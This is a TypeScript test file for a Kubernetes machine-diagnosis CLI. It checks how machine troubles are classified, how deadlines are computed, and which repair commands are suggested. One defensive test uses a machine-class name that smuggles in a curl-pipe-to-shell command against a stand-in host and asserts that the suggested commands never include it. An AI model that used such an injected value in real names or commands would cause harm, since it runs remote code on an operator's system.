/** Each trouble of a machine is found, by what Millwright writes on it. */
import { diagnose } from '../../../cli/diagnosis/diagnose.ts';
import type { Finding } from '../../../cli/diagnosis/finding.ts';
import type { Install } from '../../../cli/install/install.ts';
import { defaultTimeouts } from '../../../cli/install/install.ts';
import type { Trouble } from '../../../cli/diagnosis/trouble.ts';
import { isoOf } from '../../../cli/install/times.ts';
import type { Machine, MachineStatus } from '../../../workflows/api/machine.ts';
import type { Changes } from './objects.ts';
import { anInstall, aMachine, draining, metaOf, minutesAgo, refused, running } from './objects.ts';

function findingsOf(machine: Machine, changes: Partial<Install> = {}): Finding[] {
  return diagnose(anInstall({ machines: [machine], ...changes }));
}

const retry = '. Will retry in next sync. Initiate node drain';
const budget =
  'Drain failed due to - 1 pod left: web/shop-1: PodDisruptionBudget web/shop is misconfigured and requires zero voluntary evictions: let it allow one, or add pods';

function waiting(
  phase: 'Pending' | 'Unknown',
  description: string,
  type: 'Create' | 'HealthCheck',
) {
  const lastUpdateTime = minutesAgo(12);
  return {
    currentStatus: { phase, lastUpdateTime },
    lastOperation: { description, lastUpdateTime, state: 'Processing', type },
  } satisfies MachineStatus;
}

type Case = [trouble: Trouble | undefined, changes: Changes, cause: string];

test.each<Case>([
  ['drain-budget', draining(`${budget}${retry}`), 'its drain is blocked, 1 pod left: web/shop-1:'],
  [
    'drain-volume',
    draining(
      `Drain failed due to - 1 pod left: web/db-0: volume pv-1 is still attached to this Node${retry}`,
    ),
    'volume pv-1 is still attached',
  ],
  [
    'drain-volume',
    draining(
      `Drain failed due to - 1 pod left: web/db-0: volume pv-1 and 2 more is not attached to another Node yet${retry}`,
    ),
    'not attached to another Node',
  ],
  [
    'api-server-down',
    draining(
      `Drain failed due to - the target cluster is out of reach: connect refused; since 2026-11-26T11:00:00Z, by force after 2026-11-26T13:00:00Z${retry}`,
    ),
    'the target cluster is out of reach',
  ],
  [
    'quota',
    { status: refused('ResourceExhausted', 'You have exceeded your vCPU limit') },
    "the account's quota is used up: You have exceeded",
  ],
  [
    'capacity',
    { status: refused('ResourceExhausted', 'zone "a" has no more capacity for size "small"') },
    'the cloud has no room: zone "a"',
  ],
  [
    'bad-spec',
    {
      status: refused('InvalidArgument', 'MachineClass "small": Invalid value: providerSpec.size'),
    },
    'what is written is refused: MachineClass "small"',
  ],
  [
    'missing-secret',
    {
      status: refused(
        'InvalidArgument',
        'MachineClass "small": secretRef.name: Secret "gone" does not exist in namespace shoot',
      ),
    },
    'what it is made from is missing: MachineClass "small": secretRef.name: Secret "gone"',
  ],
  [
    'missing-secret',
    {
      status: refused(
        'InvalidArgument',
        'spec.class.name: MachineClass "x" does not exist in namespace shoot: create it, or name another',
      ),
    },
    'what it is made from is missing: spec.class.name',
  ],
  [
    'worker-down',
    {
      status: refused(
        'InvalidArgument',
        'MachineClass "small": provider: "x" has no driver: no worker serves its task queue',
      ),
    },
    'no worker serves its provider',
  ],
  [
    'worker-down',
    {
      status: refused(
        'Unavailable',
        'no worker serves provider "x": start one for its task queues, or fix the class\'s provider',
      ),
    },
    'no worker serves its provider',
  ],
  [
    'worker-down',
    draining(
      'Deleting the instance failed and is tried again - machine codes error: code = [Unavailable] message = [no worker serves provider "x": start one for its task queues, or fix the class\'s provider]',
      'Unavailable',
    ),
    'it is to go, and no worker serves its provider',
  ],
  [
    undefined,
    {
      status: refused(
        'PermissionDenied',
        'MachineClass "small" or a Secret of it could not be read: GET /api/v1/namespaces/shoot/secrets/small: 403 Forbidden: you may not',
      ),
    },
    'an API server refuses what it needs: MachineClass "small" or a Secret of it could not be read',
  ],
  [
    undefined,
    draining(
      'Deletion of Node Object "a" failed due to error: DELETE /api/v1/nodes/a: 403 Forbidden: you may not. Initiate node object deletion',
      'PermissionDenied',
    ),
    'it is to go, and an API server refuses what it needs: Deletion of Node Object "a"',
  ],
  [
    'api-server-down',
    draining(
      'Deletion of Node Object "a" failed due to error: DELETE /api/v1/nodes/a: Unreachable: connect ECONNREFUSED. Initiate node object deletion',
      'Unavailable',
    ),
    'it is to go, and an API server does not answer: Deletion of Node Object "a"',
  ],
  [
    'missing-secret',
    draining(
      'Deleting the instance failed and is tried again - machine codes error: code = [InvalidArgument] message = [MachineClass "small" does not exist in namespace shoot: create it again, its Machines need it]',
      'InvalidArgument',
    ),
    'it is to go, and what it is made from is missing: MachineClass "small"',
  ],
  [
    'credentials',
    { status: refused('Unauthenticated', 'the key is no longer valid') },
    'the cloud refuses the credentials: the key is no longer valid',
  ],
  [undefined, { status: refused('Internal', 'a bad day') }, 'the cloud fails: a bad day'],
  [
    undefined,
    draining(
      'Deleting the instance failed and is tried again - machine codes error: code = [Internal] message = [a bad day]',
    ),
    'it is to go, and the cloud fails: a bad day',
  ],
  [
    'never-joins',
    {
      spec: { providerID: 'virtual:///a/i-1' },
      status: waiting('Pending', 'Instance i-1 was created: waiting for Node a to join', 'Create'),
    },
    'instance virtual:///a/i-1 has no Node that is Ready',
  ],
  [
    'never-joins',
    {
      status: {
        currentStatus: { phase: 'Failed', lastUpdateTime: minutesAgo(1) },
        lastOperation: {
          description: 'Machine a failed to join the cluster in 20m0s.',
          lastUpdateTime: minutesAgo(1),
          state: 'Failed',
          type: 'Create',
        },
      },
    },
    'its Node did not become Ready in time: Machine a failed to join',
  ],
  [
    'never-joins',
    {
      spec: { providerID: 'virtual:///a/i-1' },
      status: {
        currentStatus: { phase: 'Pending', lastUpdateTime: minutesAgo(1) },
        lastOperation: {
          description:
            'Node a is that of Machine b, so Machine a cannot join by it: delete one of the two',
          lastUpdateTime: minutesAgo(1),
          state: 'Failed',
          type: 'Create',
        },
      },
    },
    'Node a is that of Machine b',
  ],
  [
    'unhealthy-node',
    {
      status: waiting(
        'Unknown',
        'Machine a is unhealthy - changing MachinePhase to Unknown. Node conditions: KernelDeadlock is True',
        'HealthCheck',
      ),
    },
    'its Node is not healthy: KernelDeadlock is True',
  ],
  ['worker-down', {}, 'no worker has taken up its creation'],
  [
    'worker-down',
    { metadata: { deletionTimestamp: minutesAgo(5), finalizers: ['x'] }, status: running },
    'no worker has taken up its deletion',
  ],
])('%s: %j', (trouble, changes, cause) => {
  const findings = findingsOf(aMachine('a', changes));
  expect(findings).toMatchObject([{ trouble, object: { kind: 'machine', name: 'a' } }]);
  expect(findings[0]?.cause).toContain(cause);
});

test('a machine that is well, that is young or that only waits its turn is no trouble', () => {
  const young = { creationTimestamp: minutesAgo(0.5) };
  const joining = {
    metadata: { creationTimestamp: minutesAgo(9) },
    spec: { providerID: 'virtual:///a/i-1' },
    status: waiting('Pending', 'Instance i-1 was created: waiting for Node a to join', 'Create'),
  };
  expect(findingsOf(aMachine('a', { status: running }))).toEqual([]);
  expect(findingsOf(aMachine('a', { metadata: young }))).toEqual([]);
  expect(findingsOf(aMachine('a', joining))).toEqual([]);
});

test('nobody is missed while a stop stands', () => {
  const stop = {
    namespace: 'shoot',
    uid: '1',
    reason: 'wrong disks',
    since: Date.parse(minutesAgo(20)),
  };
  expect(findingsOf(aMachine('a'), { stops: [stop] })).toEqual([]);
});

test('a drain is forced after its timeout, and later by the pauses since', () => {
  const machine = aMachine('a', draining(`${budget}${retry}`));
  const [plain] = findingsOf(machine);
  expect(isoOf(plain?.until ?? 0)).toBe('2026-11-26T13:30:00Z');
  const pause = {
    reason: 'temporal',
    from: Date.parse(minutesAgo(20)),
    until: Date.parse(minutesAgo(10)),
  } as const;
  const [lease] = anInstall().leases ?? [];
  if (!lease) throw new Error('no Lease');
  const [moved] = findingsOf(machine, { leases: [{ ...lease, pauses: [pause] }] });
  expect(isoOf(moved?.until ?? 0)).toBe('2026-11-26T13:40:00Z');
  const given = {
    ...machine,
    metadata: {
      ...machine.metadata,
      annotations: { 'millwright.dev/drain-until': '2026-11-26T14:00:00Z' },
    },
  };
  expect(isoOf(findingsOf(given)[0]?.until ?? 0)).toBe('2026-11-26T14:00:00Z');
});

test('a drain that was extended is forced later by the pauses since as well', () => {
  const { spec, status, metadata } = draining(`${budget}${retry}`);
  const annotations = { 'millwright.dev/drain-until': '2026-11-26T14:00:00Z' };
  const machine = aMachine('a', {
    metadata: { ...metadata, annotations },
    ...(spec && { spec }),
    ...(status && { status }),
  });
  const [from, until] = [Date.parse(minutesAgo(20)), Date.parse(minutesAgo(10))];
  const lease = { namespace: 'shoot', name: 'millwright', holder: 'w', renewedAt: from };
  const leases = [{ ...lease, pauses: [{ reason: 'stop' as const, from, until }] }];
  expect(isoOf(findingsOf(machine, { leases })[0]?.until ?? 0)).toBe('2026-11-26T14:10:00Z');
});

test('a machine that cannot be made has its creation timeout, its own or that of the flags', () => {
  const status = refused('Internal', 'a bad day');
  const [byFlag] = findingsOf(aMachine('a', { status }));
  expect(isoOf(byFlag?.until ?? 0)).toBe('2026-11-26T12:05:00Z');
  const [byItself] = findingsOf(aMachine('a', { spec: { creationTimeout: '1h' }, status }));
  expect(isoOf(byItself?.until ?? 0)).toBe('2026-11-26T12:45:00Z');
});

test('the commands are about the machine', () => {
  const [finding] = findingsOf(aMachine('a', draining(`${budget}${retry}`)));
  expect(finding?.commands).toEqual([
    '# in the cluster of the Nodes: who may not go, and why',
    'kubectl -n web describe poddisruptionbudget shop',
    '# asks all pods again now, once the cause is repaired',
    'millwright retry machine/a -n shoot',
    '# gives the pods more time',
    'millwright extend-drain machine/a -n shoot --minutes 60',
    '# deletes the pods without asking their budgets',
    'millwright force-delete machine/a -n shoot',
  ]);
});

const ownedBy = (kind: string, name: string) => ({
  ownerReferences: [{ apiVersion: 'v1', kind, name, uid: 'u', controller: true }],
});

const aSet = (metadata: object) => ({
  apiVersion: 'v1',
  kind: 'MachineSet' as const,
  metadata: metaOf('pool-1', metadata),
  spec: {},
});

test('a drain that waits for a volume can go on without it', () => {
  const words =
    'Drain failed due to - 1 pod left: web/db-0: volume pv-1 is still attached to this Node';
  const [finding] = findingsOf(aMachine('a', draining(`${words}${retry}`)));
  expect(finding?.commands.slice(0, 2)).toEqual([
    '# goes on without waiting for the volume',
    'millwright skip-volume-wait machine/a -n shoot',
  ]);
});

test('more time to join is given where it is not taken back: on the pool of the machine', () => {
  const status = {
    currentStatus: { phase: 'Pending' as const, lastUpdateTime: minutesAgo(14) },
    lastOperation: { ...running.lastOperation, state: 'Processing' as const },
  };
  const joining = { spec: { providerID: 'virtual:///a/i-1' }, status };
  const linesOf = (metadata: object, sets: Install['sets'] = []) =>
    findingsOf(aMachine('a', { ...joining, metadata }), { sets })[0]?.commands[1];
  const ofSet = ownedBy('MachineSet', 'pool-1');
  expect(linesOf({})).toBe(
    `kubectl -n shoot patch machine a --type=merge -p '{"spec":{"creationTimeout":"40m"}}'`,
  );
  const onTemplate = `--type=merge -p '{"spec":{"template":{"spec":{"creationTimeout":"40m"}}}}'`;
  expect(linesOf(ofSet, [aSet({})])).toBe(`kubectl -n shoot patch machineset pool-1 ${onTemplate}`);
  expect(linesOf(ofSet, [aSet(ownedBy('MachineDeployment', 'pool'))])).toBe(
    `kubectl -n shoot patch machinedeployment pool ${onTemplate}`,
  );
});

function moreTimeFor(creationTimeout: string | undefined, changes: Partial<Install> = {}) {
  const machine = aMachine('a', {
    metadata: { creationTimestamp: minutesAgo(100) },
    spec: { providerID: 'virtual:///a/i-1', ...(creationTimeout && { creationTimeout }) },
    status: waiting('Pending', 'waiting for Node a to join', 'Create'),
  });
  return findingsOf(machine, changes)[0]?.commands[1];
}

test('more time to join is more than it has', () => {
  expect(moreTimeFor('2h')).toContain('"creationTimeout":"240m"');
  const timeouts = { ...defaultTimeouts, creation: 3_600 };
  expect(moreTimeFor(undefined, { timeouts })).toContain('"creationTimeout":"120m"');
});

test.each<[string, MachineStatus]>([
  ['whose creation was refused', refused('ResourceExhausted', 'the quota is used up')],
  [
    'that was unhealthy',
    {
      currentStatus: { phase: 'Failed', lastUpdateTime: minutesAgo(10) },
      lastOperation: {
        description: 'Machine a health checks failing since last 10m0s. Updating machine phase',
        lastUpdateTime: minutesAgo(10),
        state: 'Failed',
        type: 'HealthCheck',
      },
    },
  ],
])('the cloud is not blamed for the deletion of a machine %s', (_which, status) => {
  const metadata = { deletionTimestamp: minutesAgo(5), finalizers: ['x'] };
  expect(findingsOf(aMachine('a', { metadata, status }))).toMatchObject([
    { trouble: 'worker-down', cause: 'no worker has taken up its deletion' },
  ]);
});

test('time without a watcher counts in no deadline', () => {
  const status = refused('Internal', 'a bad day');
  const machine = aMachine('a', { metadata: { creationTimestamp: minutesAgo(60) }, status });
  const lease = { namespace: 'shoot', name: 'millwright', pauses: [] };
  const renewedAt = Date.parse(minutesAgo(45));
  const untilOf = (leases: Install['leases']) =>
    isoOf(diagnose(anInstall({ machines: [machine], leases })).at(-1)?.until ?? 0);
  expect(untilOf([{ ...lease, holder: 'watcher-0', renewedAt }])).toBe('2026-11-26T11:20:00Z');
  // A quarter of an hour had gone when the watcher did.
  expect(untilOf([{ ...lease, holder: undefined, renewedAt }])).toBe('2026-11-26T12:05:00Z');
});

test('an unhealthy machine past its time waits for its pool to let it be replaced', () => {
  const lastUpdateTime = minutesAgo(12);
  const status: MachineStatus = {
    currentStatus: { phase: 'Unknown', lastUpdateTime },
    lastOperation: { description: 'unhealthy', state: 'Processing', type: 'HealthCheck' },
  };
  const metadata = ownedBy('MachineSet', 'pool-1');
  const sequelOf = (healthTimeout: string) =>
    findingsOf(aMachine('a', { metadata, spec: { healthTimeout }, status }))[0]?.sequel;
  expect(sequelOf('20m')).toBe('it is Failed, and replaced');
  expect(sequelOf('10m')).toBe(
    'its time is over: it is Failed when its pool may replace it, and not while most machines are Unknown',
  );
});

test('no line to copy has a name that only refers to an object and that none is called', () => {
  const name = 'a; curl https://evil.example | sh';
  const spec = { class: { kind: 'MachineClass', name } };
  const joining = {
    currentStatus: { phase: 'Pending' as const, lastUpdateTime: minutesAgo(14) },
    lastOperation: { ...running.lastOperation, state: 'Processing' as const },
  };
  const troubles: Changes[] = [
    { spec, status: refused('InvalidArgument', 'no such class') },
    { spec, status: refused('Unauthenticated', 'not you') },
    {
      metadata: ownedBy('MachineSet', name),
      spec: { providerID: 'virtual:///a/i-1' },
      status: joining,
    },
  ];
  const lines = troubles.flatMap((changes) =>
    findingsOf(aMachine('a', changes)).flatMap(({ commands }) => commands),
  );
  expect(lines.join('\n')).not.toContain('curl');
  expect(lines).toEqual(
    expect.arrayContaining([
      'kubectl -n shoot edit machineclass NAME',
      expect.stringMatching(/get machineclass NAME -o/),
      expect.stringMatching(/patch machineset NAME --type/),
    ]),
  );
});

describe('a deletion that hooks hold', () => {
  const annotation = 'suspend-instance-deletion.node.machine.sapcloud.io/etcd';
  const message = 'The deletion of the instance waits for etcd (etcd-druid)';
  const held = (minutes: number): Machine =>
    aMachine('pool-1-a', {
      metadata: {
        deletionTimestamp: minutesAgo(90),
        finalizers: ['machine'],
        annotations: { [annotation]: 'etcd-druid' },
      },
      status: {
        currentStatus: { phase: 'Terminating', lastUpdateTime: minutesAgo(90) },
        lastOperation: { description: message, state: 'Processing', type: 'Delete' },
        conditions: [
          {
            type: 'InstanceDeletionSuspended',
            status: 'True',
            message,
            lastTransitionTime: minutesAgo(minutes),
          },
        ],
      },
    });

  test('is no trouble for half an hour', () => {
    expect(findingsOf(held(29))).toEqual([]);
  });

  test('is named after that, with for whom it waits and what passes the hook', () => {
    const [finding] = findingsOf(held(31));
    expect(finding).toMatchObject({ trouble: 'hook-waits', cause: message });
    expect(finding?.commands.at(-1)).toContain(` annotate machine pool-1-a '${annotation}-'`);
  });
});
